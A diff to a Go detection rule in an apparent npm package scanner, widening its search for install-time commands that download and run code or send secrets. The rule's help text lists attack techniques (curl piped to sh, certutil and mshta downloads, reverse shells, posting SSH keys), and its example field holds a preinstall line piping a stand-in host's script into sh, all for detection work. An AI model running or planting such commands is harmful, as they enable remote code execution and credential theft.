@@ -2,13 +2,17 @@
 package install
 
 import (
+	"bytes"
 	"context"
 	"fmt"
 	"path"
+	"regexp"
+	"slices"
 	"strings"
 
 	"github.com/depfence/depfence/internal/analyze"
 	"github.com/depfence/depfence/internal/finding"
+	"github.com/depfence/depfence/internal/npm"
 	"github.com/depfence/depfence/internal/rules/rulekit"
 )
 
@@ -62,12 +66,16 @@ type ShellDownloadExec struct{}
 // Meta implements analyze.Rule.
 func (ShellDownloadExec) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "install/shell-download-exec", Version: 3, Title: "Install script downloads and runs code or sends secrets",
+		ID: "install/shell-download-exec", Version: 4, Title: "Install script downloads and runs code or sends secrets",
 		Help: "An install-time shell command (a lifecycle script, a shell file it runs, or a command expansion <!(…) in the binding.gyp node-gyp " +
 			"configures at install) pipes a download into a shell (curl | sh), runs an encoded PowerShell command, uses a Windows " +
 			"download LOLBin (certutil, bitsadmin, mshta), runs a download through command substitution (sh -c \"$(curl ...)\", source <(curl ...)), " +
 			"opens a reverse shell, or posts local secrets (SSH keys, .npmrc, the environment) with curl or a python -c one-liner. " +
-			"Code fetched at install is invisible to any review of the package and can change at any time.",
+			"Code fetched at install is invisible to any review of the package and can change at any time. The files install scripts hand " +
+			"to a shell or another interpreter are read too, with or without an extension (sh scripts/setup, bash ./install, python3 " +
+			"setup.py, powershell -File x.ps1, make, cmake -P), and so are binding.gyp's actions and the Makefile an action runs. The " +
+			"scripts npm runs when it installs a package from git (preprepare, postprepare, prepack, postpack, prepublish) count like " +
+			"prepare. A shell script the package installs as a command (bin) that downloads and runs code is high.",
 		Remediation:     "Do not install this version. If it is a dependency, pin a known-good version or replace it, and rotate credentials if it already ran.",
 		Example:         `"preinstall": "curl -s https://example.invalid/x.sh | sh"`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Needs: analyze.NeedManifest | analyze.NeedFiles,
@@ -103,8 +111,19 @@ func (ShellDownloadExec) Check(ctx context.Context, t *analyze.Target, r analyze
 		check("package.json", s.Command, 0)
 		gyp = gyp || strings.Contains(s.Command, "node-gyp")
 	}
+	// npm runs these when it installs the package from git (and packs
+	// or publishes it): a download-and-run there is as deliberate
+	if m, _ := t.Manifest(); m != nil {
+		for _, h := range gitHooks {
+			if c := m.Scripts[h]; c != "" {
+				check("package.json", c, 0)
+			}
+		}
+	}
 	// binding.gyp: node-gyp runs its command expansions, <!(cmd) and
-	// <!@(cmd), while it configures the build at install
+	// <!@(cmd), while it configures the build at install, and the
+	// commands of its actions while it builds
+	var scan []string
 	if b, err := t.Read("binding.gyp"); gyp && err == nil {
 		for i, line := range strings.Split(string(b), "\n") {
 			if i > 5000 {
@@ -114,37 +133,105 @@ func (ShellDownloadExec) Check(ctx context.Context, t *analyze.Target, r analyze
 				check("binding.gyp", cmd, i+1)
 			}
 		}
+		for _, cmd := range gypActions(string(b)) {
+			check("binding.gyp", cmd, 0)
+			// an action running make reads that directory's Makefile
+			if mm := gypMake.FindStringSubmatch(cmd); mm != nil {
+				scan = append(scan, path.Join(mm[1], "Makefile"))
+			}
+		}
 	}
-	// shell scripts run at install, and any shipped shell file reachable
+	// files install scripts hand to a shell or another interpreter (sh,
+	// bash ./install, python3 setup.py, powershell -File, make, cmake
+	// -P), shipped shell files when nothing says what runs, and the
+	// scripts a bin names
 	for _, f := range t.Files() {
 		ext := strings.ToLower(path.Ext(f))
-		if ext != ".sh" && ext != ".bash" && ext != ".ps1" && ext != ".cmd" && ext != ".bat" {
-			continue
+		script := ext == ".sh" || ext == ".bash" || ext == ".ps1" || ext == ".cmd" || ext == ".bat"
+		if t.InstallHook(f) != "" && !analyze.IsCode(f) || script && t.Partial() || slices.Contains(scan, f) {
+			scanScript(t, f, check)
 		}
-		if t.InstallHook(f) == "" && !t.Partial() {
-			continue
+	}
+	for name, f := range shellBins(t) {
+		scanScript(t, f, func(file, text string, line int) {
+			if m := rulekit.ShellDanger(text); m != "" {
+				r.Report(analyze.Instance{File: file, Line: line, Severity: finding.SeverityHigh, Confidence: finding.ConfidenceHigh,
+					Message: fmt.Sprintf("the %q command the package installs downloads and executes code", name), Evidence: rulekit.Ev(jsastClean(m), "", "")})
+			}
+		})
+	}
+	return nil
+}
+
+// gitHooks are the lifecycle scripts npm runs when it installs a package
+// from git, packs or publishes it.
+var gitHooks = []string{"preprepare", "postprepare", "prepack", "postpack", "prepublish"}
+
+// scanScript runs check on each line of a text script of the package
+// that says something (binaries are skipped), and on the whole of a
+// small one joined (a secret read on one line and sent on the next).
+func scanScript(t *analyze.Target, f string, check func(file, text string, line int)) {
+	b, err := t.Read(f)
+	if err != nil || bytes.IndexByte(b[:min(len(b), 512)], 0) >= 0 {
+		return
+	}
+	text := string(b)
+	found := false
+	for i, line := range strings.Split(text, "\n") {
+		if i > 5000 {
+			break
 		}
-		b, err := t.Read(f)
+		if rulekit.ShellSendsSecrets(line) != "" || rulekit.ShellDanger(line) != "" {
+			check(f, line, i+1)
+			found = true
+		}
+	}
+	if !found && len(text) < 64<<10 {
+		check(f, strings.ReplaceAll(text, "\n", " ; "), 1)
+	}
+}
+
+// shellBins returns the package's commands whose target is a shell
+// script (a "#!" line naming a shell, or .sh), by command name.
+func shellBins(t *analyze.Target) map[string]string {
+	m, _ := t.Manifest()
+	if m == nil {
+		return nil
+	}
+	out := map[string]string{}
+	for name, target := range npm.Bins(m.Name, m.Bin) {
+		f := path.Clean(strings.TrimPrefix(target, "./"))
+		head, err := t.Head(f, 64)
 		if err != nil {
 			continue
 		}
-		text := string(b)
-		found := false
-		for i, line := range strings.Split(text, "\n") {
-			if i > 5000 {
-				break
-			}
-			if rulekit.ShellSendsSecrets(line) != "" || rulekit.ShellDanger(line) != "" {
-				check(f, line, i+1)
-				found = true
-			}
-		}
-		if !found && len(text) < 64<<10 {
-			// a secret read on one line and sent on the next
-			check(f, strings.ReplaceAll(text, "\n", " ; "), 1)
+		if strings.HasSuffix(f, ".sh") || shellShebang.Match(head) {
+			out[name] = f
 		}
 	}
-	return nil
+	return out
+}
+
+var (
+	shellShebang = regexp.MustCompile(`^#!\s*\S*/(env\s+)?(ba|da|z)?sh\b`)
+	// gypAction matches an action's command list in binding.gyp
+	gypAction = regexp.MustCompile(`['"]action['"]\s*:\s*\[([^\]]*)\]`)
+	gypString = regexp.MustCompile(`'([^']*)'|"([^"]*)"`)
+	gypMake   = regexp.MustCompile(`^(?:make|gmake)\b(?:.*?-C\s+(\S+))?`)
+)
+
+// gypActions returns the commands of binding.gyp's actions, each list
+// joined into one command line.
+func gypActions(gyp string) []string {
+	var out []string
+	for _, mm := range gypAction.FindAllStringSubmatch(gyp, 64) {
+		var parts []string
+		for _, q := range gypString.FindAllStringSubmatch(mm[1], 64) {
+			parts = append(parts, q[1]+q[2])
+		}
+		out = append(out, strings.Join(parts, " "))
+	}
+	return out
 }
 
 // gypCommands returns the commands of a gyp line's command expansions:
